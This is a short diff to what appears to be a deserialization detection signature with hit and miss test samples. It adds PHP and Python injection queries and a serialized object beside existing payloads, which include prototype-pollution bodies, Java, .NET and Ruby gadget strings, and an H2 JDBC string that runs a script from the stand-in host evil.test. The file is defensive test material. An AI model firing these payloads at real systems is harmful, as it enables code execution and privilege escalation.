@@ -41,6 +41,9 @@ export const deserialization: Signature = {
       'org.apache.commons.collections.functors.InvokerTransformer',
       { body: '{"constructor":{"prototype":{"admin":true}}}', contentType: 'application/json' },
       { query: '__pro__proto__to__[admin]=1' },
+      { query: '__class__.__qualname__=x' },
+      { query: '_SESSION[admin]=1' },
+      'a:2:{s:4:"user";b:1;s:4:"pass";b:1;}',
       "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.test/a.sql'",
       '<root type="System.Windows.Data.ObjectDataProvider"/>',
       '{"json_class":"Gem::Installer"}',
@@ -63,6 +66,7 @@ export const deserialization: Signature = {
       '<tree-map><entry><dynamic-proxy/></entry></tree-map>',
     ],
     misses: [
+      { query: '_sort=a&global[x]=1&session[id]=2' },
       'a:2:{s:1:"a";i:1;s:1:"b";i:2;}',
       { query: '__VIEWSTATE=%2FwEPDwUKMTY1NDU2MTA1MmRk' },
       { body: '{"@type":"Person","@context":"https://schema.org"}', contentType: 'application/json' },
